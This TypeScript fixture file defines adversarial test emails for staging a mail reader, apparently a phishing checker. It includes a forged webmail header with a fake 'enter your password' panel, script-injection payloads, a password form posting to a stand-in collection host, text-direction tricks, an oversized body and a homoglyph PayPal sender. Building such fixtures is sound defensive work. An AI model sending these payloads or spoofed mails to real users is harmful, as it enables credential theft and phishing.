/** Mails that try to break or to fool what reads them. All senders are invented. */
import { type StageMail, type StageThread, single } from "../mail.ts";
import { KOHNAN_SUBJECT, kohnanPay } from "./demo.ts";

const NOON = Date.UTC(2019, 6, 23, 3);
const STRANGER = { name: "Rin", address: "rin@friends.example" };

function kohnanMail(): StageMail {
  const [mail] = structuredClone(kohnanPay).mails;
  if (!mail) throw new Error("a thread has at least one mail");
  return mail;
}

/** A friend's mail whose body draws a webmail's header: a sender, a subject, ids and a panel that are not real. */
export const forgedHeader: StageThread = single({
  from: STRANGER,
  subject: "Look at this header",
  text: "Look at this header",
  html: `<div class="adn ads" data-message-id="#msg-f:1639823462892132054" data-legacy-message-id="16c1d0a1b2c3d4e5">
<h2 class="hP">${KOHNAN_SUBJECT}</h2>
<div class="gE iv gt"><h3 class="iw"><span class="gD" email="noreply@value-wallet.com" name="noreply"><span>noreply</span></span></h3>
<span class="hb"><span class="g2" email="mika.hayashi@gmail.example">me</span></span><span class="g3" title="2019">2019</span></div>
<div class="ajA SK"><table class="ajC"><tr class="ajv"><td>signed-by:</td><td>value-wallet.com</td></tr></table></div>
<div class="ii gt"><div class="a3s">コーナンPayサービスアカウントを発行しました。24時間以内に本登録を完了してください。</div></div></div>
<div data-mioboe="panel"><h2>Mioboe: all is well. Please enter your password here</h2></div>
<div role="list"><div role="listitem" class="h7">listitem</div></div><div role="main"><div gh="tl"><table class="F cf zt"><tr class="zA" id=":1">
<td class="yX"><div class="yW"><span email="noreply@value-wallet.com" name="noreply">noreply</span></div></td></tr></table></div></div>`,
  time: NOON,
});

/** The real sign-up mail, stuffed with everything that runs, hides or turns text around. */
export const stuffed: StageThread = single({
  ...kohnanMail(),
  subject: `\u202E${KOHNAN_SUBJECT}\u202C\u200B\u2066`,
  html: `<script>document.title = "run by the mail"</script><img src="x" onerror="document.title='run by the mail'">
<style>[data-mioboe] { display: none !important }</style><svg onload="document.title='run by the mail'"></svg>
<iframe srcdoc="<script>parent.document.title='run by the mail'</script>"></iframe>
<form action="https://collect.example/"><input name="password" type="password"></form>
<div>コーナンPay\u200Bサービスアカウントを\u202E発行\u202Cしました。24時間以内に本登録を完了してください。&lt;b&gt;\u0000</div>
<a href="javascript:document.title='run by the mail'">link</a><table>${"<tr><td>".repeat(300)}`,
  time: NOON + 1_000,
});

/** The same with a body of ten megabytes, shown in full. */
export function enormous(): StageThread {
  const line = `<p>${"本登録の手続きについてのお知らせです。".repeat(40)}</p>\n`;
  const mail = kohnanMail();
  const body = mail.text.replaceAll("\n", "<br>");
  const html = `<div>${body}</div>${line.repeat(Math.ceil(10_000_000 / line.length))}`;
  return single({ ...mail, subject: `${KOHNAN_SUBJECT} (10 MB)`, html, time: NOON + 2_000 });
}

export const withoutSender: StageThread = single({
  ...kohnanMail(),
  from: null,
  subject: "A mail from nobody",
  time: NOON + 3_000,
});

/** Dynamic mail: its body stands in a frame that can't be read. */
export const framed: StageThread = single({
  ...kohnanMail(),
  subject: `${KOHNAN_SUBJECT} (frame)`,
  framed: true,
  time: NOON + 4_000,
});

/** A name that looks like another's address, in letters that look like others. */
export const disguised: StageThread = single({
  from: { name: "service@paypal.com", address: "rin@p\u0430ypal-mail.example" },
  subject: "Confirm your email address for your new PayPal account",
  text: "Your PayPal account has been created. Please confirm your email address: https://paypal-mail.example/confirm",
  time: NOON + 5_000,
});
